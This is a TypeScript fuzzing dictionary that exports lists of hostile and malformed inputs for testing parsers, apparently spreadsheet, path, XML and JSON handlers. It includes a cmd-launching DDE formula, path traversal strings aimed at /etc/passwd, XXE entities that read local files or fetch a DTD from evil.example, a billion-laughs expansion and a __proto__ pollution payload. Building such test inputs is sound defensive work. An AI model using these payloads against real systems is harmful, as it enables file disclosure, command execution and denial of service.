/** What hostile and broken inputs are made of: characters, numbers, names and pieces that have broken other programs. */

/** Characters that readers, terminals, spreadsheets and people stumble over. */
export const CHARACTERS: readonly string[] = [
  '\0', '\b', '\t', '\n', '\r', '\r\n', '\x0b', '\x1b', '\x1b[2J', '\x1b]0;owned\x07', '\x7f', '\x85', '\x9b31m', '\xa0', '\xad', '\u200b', '\u200e', '\u2028', '\u2029', '\u202e',
  '\u2066', '\ufeff', '\ufffd', '\ufffe', '\uffff', '\ud800', '\udfff', '\u{1f600}', '\u{10ffff}', 'é', 'e\u0301', 'ß', 'İ',
  '漢', 'ﷺ', '\'', '"', '`', '\\', '/', '<', '>', '&', ';', ',', '|', '%', '$', '{', '}', '[', ']',
];

/** Names that every object has, and the ones that make others have them. */
export const PROTOTYPE_NAMES: readonly string[] = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', 'then', 'toJSON', 'length'];

export const NUMBERS: readonly string[] = [
  '0', '-0', '1', '-1', '0.1', '1e3', '1e21', '1e400', '-1e400', '9007199254740991', '9007199254740993', '-9007199254740993',
  '99999999999999999999', '9999999999999', '9999999999999.99', '9999999999.99999', '0x10', '1_000', '1,5',
  '٣', 'NaN', 'Infinity', '2147483648', '4294967296', '00012', '+5', ' 7 ', '.5', '5.', '1e-7', '0.000001', '12.345',
];

export const FORMULAS: readonly string[] = [
  '=1+1', '=cmd|\' /C calc\'!A0', '+1+1', '-1+1', '@SUM(1)', '=HYPERLINK("http://evil.example","x")', '\t=1',
  '\r=1', '\n=1', ';=1', ';+1', '"=1', ',=1', '＝1+1', ' =1', 'x\n=1', 'x;=1', 'x\t@y',
];

export const PATHS: readonly string[] = [
  '../', '..\\', '..%2f', '..%5c', '%2e%2e/', '%252e%252e%252f', '%c0%ae%c0%ae/', '....//', '/etc/passwd', 'C:\\Windows\\win.ini',
  '\\\\evil\\share', 'file:///etc/passwd', '%00', '\0', '//evil.example/', '/ui/../../package.json', '/ui/%2e%2e/',
  '/ui//', '/ui/assets/../../', 'CON', 'NUL', ':$DATA', '.', '~',
];

export const XML_PIECES: readonly string[] = [
  '<!DOCTYPE x>', '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]>', '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
  '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>', '&a;', '&lol9;', '&#0;', '&#x1b;', '&#xD800;',
  '&#99999999999;', '&#x;', '&amp', '&lt;', '<!--', '-->', '<!-->', '<!--->', '<!-- -- -->', '<![CDATA[', ']]>', '<![CDATA[]]>',
  '<?xml version="1.0"?>', '<?xml version="1.1" encoding="utf-16"?>', '<?qbxml version="16.0"?>', '<?', '?>', '</', '/>', '<a>',
  '</a>', '<a/>', '<a b="c">', '<__proto__>', '</__proto__>', '<a __proto__="x">', ' xmlns="x"', ' xmlns:q="y"', ' b="1" b="2"', ' b=\'<\'',
  ' b=1', '<q:a>', '<\u0301a>', '<a\0>', '<1a>', '< a>', '<a b="\n">', '<QBXML>', '</QBXML>', '<__text__>x</__text__>',
];

export const JSON_PIECES: readonly string[] = [
  '{', '}', '[', ']', ',', ':', '"', 'null', 'true', '{}', '[]', '""', '{"__proto__":{"polluted":true}}', '"__proto__":',
  '"\\u0000"', '"\\ud800"', '[[[[', '1e999', '-', '\\', '/*', '//', '\'', 'NaN', 'undefined', '\ufeff',
];

/** All of them, for texts of no particular kind. */
export const PIECES: readonly string[] = [...CHARACTERS, ...PROTOTYPE_NAMES, ...NUMBERS, ...FORMULAS, ...PATHS, ...XML_PIECES, ...JSON_PIECES];
